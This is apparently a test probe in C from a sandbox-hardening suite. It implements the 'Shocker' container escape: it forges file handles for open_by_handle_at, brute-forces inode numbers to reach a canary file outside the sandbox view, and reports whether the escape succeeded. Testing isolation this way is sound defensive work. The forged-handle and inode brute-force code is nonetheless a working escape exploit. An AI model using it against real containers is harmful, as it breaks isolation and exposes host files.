/* S21: Shocker: name_to_handle_at on the canary and on visible paths, then open_by_handle_at with forged handles (filesystem root inode, brute-forced inode numbers) to walk to the canary outside the view. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>

/* Arguments (same order in every syscall attack):
 * 1 {nonce} 2 {scratch} 3 {canary_file} 4 {tcp_port} 5 {udp_port} 6 {supervisor_pid} 7 {runner_pid} */
static const char *NONCE = "nononce", *SCRATCH = "/tmp", *CANARY = "/nonexistent";
static int TCP_PORT = 0, UDP_PORT = 0, SUPV_PID = 0, RUNNER_PID = 0;
static int n_escaped = 0, n_denied = 0;

static __attribute__((unused)) void args(int argc, char **argv)
{
    if (argc > 1) NONCE = argv[1];
    if (argc > 2) SCRATCH = argv[2];
    if (argc > 3) CANARY = argv[3];
    if (argc > 4) TCP_PORT = atoi(argv[4]);
    if (argc > 5) UDP_PORT = atoi(argv[5]);
    if (argc > 6) SUPV_PID = atoi(argv[6]);
    if (argc > 7) RUNNER_PID = atoi(argv[7]);
    setvbuf(stdout, NULL, _IOLBF, 0);
}

/* One self-report line per probe. */
static __attribute__((unused)) void report(int escaped, const char *fmt, ...)
{
    char what[400];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(what, sizeof what, fmt, ap);
    va_end(ap);
    for (char *p = what; *p; p++)
        if (*p == '\n') *p = ' ';
    printf("GAUNTLET-REPORT %s %s %s\n", NONCE, escaped ? "escaped" : "denied", what);
    fflush(stdout);
    if (escaped) n_escaped++; else n_denied++;
}

/* Raw syscall returning -errno on failure. */
static __attribute__((unused)) long rs(long nr, long a, long b, long c, long d, long e, long f)
{
    long r = syscall(nr, a, b, c, d, e, f);
    return r == -1 ? -errno : r;
}

static __attribute__((unused)) const char *en(long r)
{
    static char buf[8][64];
    static int i;
    i = (i + 1) % 8;
    if (r >= 0) snprintf(buf[i], sizeof buf[i], "ok(%ld)", r);
    else snprintf(buf[i], sizeof buf[i], "%s", strerror((int)-r));
    return buf[i];
}

/* Print a file's first bytes (the host scans stdout for the canary token). */
static __attribute__((unused)) int dump_fd(const char *label, int fd)
{
    char buf[512];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n > 0) {
        buf[n] = 0;
        printf("[%s] read %zd bytes: %s\n", label, n, buf);
        return 1;
    }
    printf("[%s] read: %s\n", label, n < 0 ? strerror(errno) : "EOF");
    return 0;
}

static __attribute__((unused)) int try_read_path(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        printf("open %s: %s\n", path, strerror(errno));
        return 0;
    }
    int got = dump_fd(path, fd);
    close(fd);
    return got;
}

/* Run fn in a forked child bounded by alarm(secs); returns the wait status (or -1). */
static __attribute__((unused)) int in_child(int (*fn)(void *), void *arg, unsigned secs)
{
    fflush(stdout);
    pid_t p = fork();
    if (p < 0) return -1;
    if (p == 0) {
        alarm(secs);
        _exit(fn(arg) & 0xff);
    }
    int st = 0;
    if (waitpid(p, &st, 0) < 0) return -1;
    return st;
}

static __attribute__((unused)) const char *wstr(int st)
{
    static char buf[4][64];
    static int i;
    i = (i + 1) % 4;
    if (st == -1) snprintf(buf[i], sizeof buf[i], "fork failed");
    else if (WIFEXITED(st)) snprintf(buf[i], sizeof buf[i], "exit %d", WEXITSTATUS(st));
    else if (WIFSIGNALED(st)) snprintf(buf[i], sizeof buf[i], "signal %d (%s)", WTERMSIG(st), strsignal(WTERMSIG(st)));
    else snprintf(buf[i], sizeof buf[i], "status 0x%x", st);
    return buf[i];
}

/* pstat-judged attacks stay alive so the host sampler sees their status, namespaces and /dev. */
static __attribute__((unused)) void linger(void)
{
    printf("done: %d escaped, %d denied; lingering for the host sampler\n", n_escaped, n_denied);
    fflush(stdout);
    usleep(400000);
}

/* A TCP connect + send to the honeypot on 127.0.0.1 (the only address these attacks ever contact). */
static __attribute__((unused)) int tcp_hit(const char *msg)
{
    if (TCP_PORT <= 0) return 0;
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0) return 0;
    struct sockaddr_in sa = {0};
    sa.sin_family = AF_INET;
    sa.sin_port = htons((unsigned short)TCP_PORT);
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int ok = connect(s, (struct sockaddr *)&sa, sizeof sa) == 0;
    if (ok && msg) { ssize_t w = write(s, msg, strlen(msg)); (void)w; }
    printf("tcp connect 127.0.0.1:%d: %s\n", TCP_PORT, ok ? "CONNECTED" : strerror(errno));
    close(s);
    return ok;
}

/* A line of /proc/self/status (e.g. "CapEff"), value copied to out. */
static __attribute__((unused)) int status_field(const char *pid, const char *key, char *out, size_t n)
{
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%s/status", pid);
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    size_t kl = strlen(key);
    int found = 0;
    while (fgets(line, sizeof line, f)) {
        if (!strncmp(line, key, kl) && line[kl] == ':') {
            char *v = line + kl + 1;
            while (*v == ' ' || *v == '\t') v++;
            v[strcspn(v, "\n")] = 0;
            size_t vl = strlen(v);
            if (vl >= n) vl = n - 1;
            memcpy(out, v, vl);
            out[vl] = 0;
            found = 1;
            break;
        }
    }
    fclose(f);
    return found;
}

static __attribute__((unused)) unsigned long long ns_ino(const char *pid, const char *ns)
{
    char p[64];
    struct stat st;
    snprintf(p, sizeof p, "/proc/%s/ns/%s", pid, ns);
    return stat(p, &st) == 0 ? (unsigned long long)st.st_ino : 0;
}
struct fh { unsigned int bytes; int type; unsigned char h[128]; };

static int walk_and_read(int rootfd, const char *how)
{
    /* the canary path relative to the filesystem root we got a handle to; also each suffix of it, in
     * case the filesystem root is a sub-directory (e.g. /tmp on its own filesystem) */
    const char *p = CANARY;
    int got = 0;
    while (p && *p && !got) {
        while (*p == '/') p++;
        int fd = openat(rootfd, p, O_RDONLY);
        if (fd >= 0) { got = dump_fd(how, fd); close(fd); }
        p = strchr(p, '/');
    }
    return got;
}

int main(int argc, char **argv)
{
    args(argc, argv);
    struct fh f;
    int mnt = 0;
    /* 1: a handle for the canary itself (needs only search access on the path) */
    memset(&f, 0, sizeof f);
    f.bytes = sizeof f.h;
    long r = rs(SYS_name_to_handle_at, AT_FDCWD, (long)CANARY, (long)&f, (long)&mnt, 0, 0);
    report(r == 0, "name_to_handle_at(canary) %s", en(r));
    /* 2: a handle for something visible on the same filesystem (scratch, /tmp, /) */
    const char *vis[] = {SCRATCH, "/tmp", "/", "/proc/self/exe"};
    int mountfd[4];
    struct fh known[4];
    for (int i = 0; i < 4; i++) {
        mountfd[i] = open(vis[i], O_RDONLY | (i < 3 ? O_DIRECTORY : 0));
        memset(&known[i], 0, sizeof known[i]);
        known[i].bytes = sizeof known[i].h;
        r = rs(SYS_name_to_handle_at, AT_FDCWD, (long)vis[i], (long)&known[i], (long)&mnt, AT_SYMLINK_FOLLOW, 0);
        if (r != 0) known[i].bytes = 0;
        report(r == 0, "name_to_handle_at(%s) %s type=%d bytes=%u", vis[i], en(r), known[i].type, known[i].bytes);
        if (r == 0) {
            /* reopen the genuine handle first */
            long fd = rs(SYS_open_by_handle_at, mountfd[i], (long)&known[i], O_RDONLY, 0, 0, 0);
            report(fd >= 0, "open_by_handle_at(genuine handle of %s) %s", vis[i], en(fd));
            if (fd >= 0) close((int)fd);
        }
    }
    /* 3: the classic forged handle: FILEID_INO32_GEN {ino=2, gen=0} = root of an ext4/xfs filesystem,
     * plus 64-bit-inode layouts (tmpfs/btrfs style), against each mount fd */
    int got = 0;
    for (int i = 0; i < 4 && !got; i++) {
        if (mountfd[i] < 0) continue;
        const int types[] = {1 /*FILEID_INO32_GEN*/, 2 /*INO32_GEN_PARENT*/, 0x81 /*FILEID_INO64_GEN*/};
        for (int t = 0; t < 3 && !got; t++)
            for (unsigned ino = 1; ino <= 130 && !got; ino++) {
                memset(&f, 0, sizeof f);
                f.type = types[t];
                if (types[t] == 0x81) { unsigned long long i64 = ino; memcpy(f.h, &i64, 8); f.bytes = 12; }
                else { memcpy(f.h, &ino, 4); f.bytes = types[t] == 2 ? 16 : 8; }
                long fd = rs(SYS_open_by_handle_at, mountfd[i], (long)&f, O_RDONLY | O_DIRECTORY, 0, 0, 0);
                if (fd == -EPERM && ino == 1) { report(0, "open_by_handle_at(forged, via %s) EPERM", vis[i]); t = 3; break; }
                if (fd >= 0) {
                    report(1, "open_by_handle_at(forged type %d ino %u via %s) opened a directory", types[t], ino, vis[i]);
                    got = walk_and_read((int)fd, "shocker");
                    close((int)fd);
                }
            }
    }
    /* 4: mutate a genuine handle's inode field around its value (sibling inodes: the canary is often near) */
    for (int i = 0; i < 3 && !got; i++) {
        if (known[i].bytes < 4 || mountfd[i] < 0) continue;
        unsigned base;
        memcpy(&base, known[i].h, 4);
        for (int d = -64; d <= 64 && !got; d++) {
            f = known[i];
            unsigned ino = base + d;
            memcpy(f.h, &ino, 4);
            long fd = rs(SYS_open_by_handle_at, mountfd[i], (long)&f, O_RDONLY, 0, 0, 0);
            if (fd >= 0) {
                char b[256] = {0};
                ssize_t n = read((int)fd, b, sizeof b - 1);
                if (n > 0) printf("inode %u via %s: %s\n", ino, vis[i], b);
                close((int)fd);
            }
        }
    }
    report(got, "shocker-read-canary");
    linger();
    return 0;
}
